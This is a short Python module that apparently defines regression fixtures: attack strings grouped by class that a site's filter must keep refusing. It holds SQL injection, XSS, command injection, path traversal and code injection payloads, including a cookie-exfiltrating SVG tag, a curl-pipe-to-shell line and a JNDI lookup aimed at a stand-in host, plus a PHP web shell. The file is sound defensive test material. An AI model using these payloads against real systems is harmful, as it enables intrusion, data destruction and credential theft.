"""Attacks by class, as values of one field: what a site must go on refusing after a change."""

from collections.abc import Mapping
from types import MappingProxyType

ATTACKS: Mapping[str, tuple[str, ...]] = MappingProxyType(
    {
        "sql": (
            "1' OR '1'='1' -- ",
            "1 UNION ALL SELECT login, password FROM users",
            "1; DROP TABLE orders; --",
            "1' AND SLEEP(5) AND 'a'='a",
        ),
        "markup": (
            "<script>alert(document.cookie)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=fetch('//203.0.113.9/'+document.cookie)>",
        ),
        "command": (
            "; cat /etc/passwd",
            "$(curl http://203.0.113.9/x.sh | sh)",
            "| ping -c 10 127.0.0.1",
        ),
        "traversal": ("../../../../etc/passwd", "..\\..\\..\\windows\\win.ini"),
        "code": ("<?php system($_GET['c']); ?>", "${jndi:ldap://203.0.113.9/a}", "{{7*7}}"),
    }
)
"""Each is refused by our own pack at its first level in an argument of any name."""
